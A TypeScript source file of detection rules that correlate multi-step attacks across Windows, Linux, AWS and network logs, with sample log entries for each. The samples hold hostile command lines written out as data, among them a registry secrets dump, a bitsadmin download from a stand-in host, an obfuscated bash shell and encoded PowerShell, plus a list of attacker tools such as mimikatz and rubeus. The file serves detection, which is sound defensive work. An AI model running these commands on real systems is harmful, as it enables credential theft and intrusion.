import type { CatalogCorrelation, SampleEntry } from "./pack.ts";
import { event, eventIs, holds, runs, started } from "./windows-fields.ts";

/** Steps of attacks that follow each other on a machine, in an account or from an address, each of which may be innocent alone. */

const SERVERS = ["tomcat", "java.exe", "w3wp.exe", "httpd.exe", "nginx.exe"] as const;
const TOOLS = [
  "seatbelt",
  "sharphound",
  "bloodhound",
  "winpeas",
  "adfind.exe",
  "mimikatz",
  "rubeus",
] as const;

const role = (eventName: string): SampleEntry => ({
  message: eventName,
  attrs: {
    ...{ eventName, userAgent: "aws-cli/2.0" },
    userIdentity: { type: "AssumedRole", sessionContext: { sessionIssuer: { userName: "web-role" } } },
  },
});
const sensor = (attrs: Readonly<Record<string, unknown>>): SampleEntry => ({
  message: "zeek",
  attrs: { id_orig_h: "10.0.1.6", id_resp_h: "10.0.0.4", ...attrs },
});
const audit = (command: string): SampleEntry => ({
  message: `type=AUOMS_EXECVE user=tomcat argc=2 cmdline="${command}"`,
  ...{ service: "auoms", host: "web-1" },
});
const on = (host: string, entry: SampleEntry): SampleEntry => ({ ...entry, host });

export const ATTACK_CHAINS: readonly CatalogCorrelation[] = [
  {
    id: "windows-remote-service-then-secrets",
    name: "A service for remote commands came, and then secrets of the registry were saved",
    description: "Somebody has the passwords of the machine. Isolate it, and change all of them.",
    ...{ severity: "critical", attackTechnique: "T1003.004", joinField: "hostName", windowSec: 600 },
    condition: {
      kind: "sequence",
      steps: [
        `${eventIs(7045, 4697)} and ${holds("ServiceName", "PSEXESVC", "PAExec", "RemComSvc", "csexecsvc")}`,
        `${eventIs(1, 4688)} and ${runs("save HKLM", "export HKLM")}`,
      ],
    },
    chain: [
      on("pc-5", event(7045, { ServiceName: "PSEXESVC" })),
      started("reg save HKLM\\security\\policy\\secrets C:\\Temp\\secrets"),
    ],
  },
  {
    id: "windows-sign-in-then-program-on-share",
    name: "Somebody signed in over the network and put a program on a hidden share",
    description: "This is how intruders go from machine to machine. See what the program is, and who ran it.",
    ...{ severity: "high", attackTechnique: "T1021.002", joinField: "sourceAddress", windowSec: 600 },
    condition: {
      kind: "sequence",
      steps: [
        `${eventIs(4624)} and (tostring(LogonType) == "3" or tostring(winlog.event_data.LogonType) == "3")`,
        `${eventIs(5145)} and ${holds("ShareName", "$")} and ${holds("RelativeTargetName", ".exe", ".dll", ".ps1")}`,
      ],
    },
    chain: [
      event(4624, { LogonType: 3, IpAddress: "10.1.2.3" }),
      event(5145, {
        ShareName: "\\\\*\\C$",
        RelativeTargetName: "ProgramData\\a.exe",
        IpAddress: "10.1.2.3",
      }),
    ],
  },
  {
    id: "windows-background-transfer-then-file",
    name: "A background transfer was asked for by command, and brought a file",
    description: "Malware is brought so, past what looks at browsers. See what came, and from where.",
    ...{ severity: "high", attackTechnique: "T1197", joinField: "hostName", windowSec: 600 },
    condition: {
      kind: "sequence",
      steps: [
        `${eventIs(1, 4688)} and ((${runs("bitsadmin")} and ${runs("/transfer", "/addfile")}) or ${runs("Start-BitsTransfer")})`,
        `${eventIs(11)} and ${holds("TargetFilename", "BIT")} and ${holds("TargetFilename", ".tmp")} and ${holds("Image", "svchost.exe")}`,
      ],
    },
    chain: [
      started("bitsadmin /transfer job https://a.example/a.ps1 C:\\Temp\\a.ps1"),
      on(
        "pc-5",
        event(11, { TargetFilename: "C:\\Temp\\BIT9584.tmp", Image: "C:\\Windows\\System32\\svchost.exe" }),
      ),
    ],
  },
  {
    id: "windows-log-cleared-then-tool",
    name: "An event log was cleared, and then a tool of attackers was run",
    description:
      "Somebody hides and looks around. Isolate the machine; what was before is gone from its log.",
    ...{ severity: "critical", attackTechnique: "T1070.001", joinField: "hostName", windowSec: 900 },
    condition: {
      kind: "sequence",
      steps: [
        `${eventIs(1102)} or (${eventIs(104)} and source == "System")`,
        `${eventIs(1, 4688)} and ${runs(...TOOLS)}`,
      ],
    },
    chain: [on("pc-5", event(1102)), started("Seatbelt.exe -group=user")],
  },
  {
    id: "windows-server-reaches-out-then-shell",
    name: "A server looked something up on the network, and then started a shell",
    description:
      "A hole in the application fetched code and ran it. Isolate the machine, then close the hole.",
    ...{ severity: "critical", attackTechnique: "T1190", joinField: "hostName", windowSec: 300 },
    condition: {
      kind: "sequence",
      steps: [
        `(${eventIs(22)} or (${eventIs(3)} and ${holds("Initiated", "true")})) and ${holds("Image", ...SERVERS)}`,
        `${eventIs(1, 4688)} and ${holds("ParentImage", ...SERVERS)} and ${runs("cmd.exe", "powershell", "whoami", "certutil")}`,
      ],
    },
    chain: [
      on(
        "pc-5",
        event(3, { Initiated: "true", Image: "C:\\tomcat\\bin\\tomcat9.exe", DestinationPort: 1389 }),
      ),
      started("powershell.exe -Enc SQBFAFgA", { ParentImage: "C:\\tomcat\\bin\\tomcat9.exe" }),
    ],
  },
  {
    id: "linux-encoded-shell-then-discovery",
    name: "An encoded command became a shell, and then somebody looked around",
    description: "A shell was opened from afar. Isolate the machine, and see which service started it.",
    ...{ severity: "critical", attackTechnique: "T1059.004", joinField: "host", windowSec: 600 },
    condition: {
      kind: "sequence",
      steps: [
        'message contains "base64" and message contains "bash" and (message contains "-d}" or message contains "-d |" or message contains "--decode")',
        'message contains "cmdline=\\"whoami\\"" or message contains "cmdline=\\"id\\"" or message contains "cmdline=\\"uname"',
      ],
    },
    chain: [audit("bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}"), audit("whoami")],
  },
  {
    id: "aws-role-lists-then-reads",
    name: "A role listed buckets by command line, and then read what is in them",
    description:
      "The credentials of a machine are used to take data out. Revoke them, and see what was read.",
    ...{ severity: "high", attackTechnique: "T1530", joinField: "userName", windowSec: 3600 },
    condition: {
      kind: "sequence",
      steps: [
        'eventName == "ListBuckets" and userIdentity.type == "AssumedRole" and userAgent contains "aws-cli"',
        'eventName in ("ListObjects", "ListObjectsV2") and userAgent contains "aws-cli"',
        'eventName == "GetObject" and userAgent contains "aws-cli"',
      ],
    },
    chain: [role("ListBuckets"), role("ListObjects"), role("GetObject")],
  },
  {
    id: "network-untrusted-certificate-then-directory",
    name: "A machine spoke with an untrusted certificate, and then asked the directory for accounts",
    description: "It may be steered from outside, and looks for whom to attack next. See what runs on it.",
    ...{ severity: "high", attackTechnique: "T1087.002", joinField: "sourceAddress", windowSec: 3600 },
    condition: {
      kind: "sequence",
      steps: [
        'note == "SSL::Invalid_Server_Cert"',
        'endpoint in ("samr", "drsuapi") and operation in ("SamrEnumerateDomainsInSamServer", "SamrGetGroupsForUser", "SamrQueryInformationGroup", "DRSCrackNames")',
      ],
    },
    chain: [
      sensor({ note: "SSL::Invalid_Server_Cert" }),
      sensor({ endpoint: "samr", operation: "SamrEnumerateDomainsInSamServer" }),
    ],
  },
];
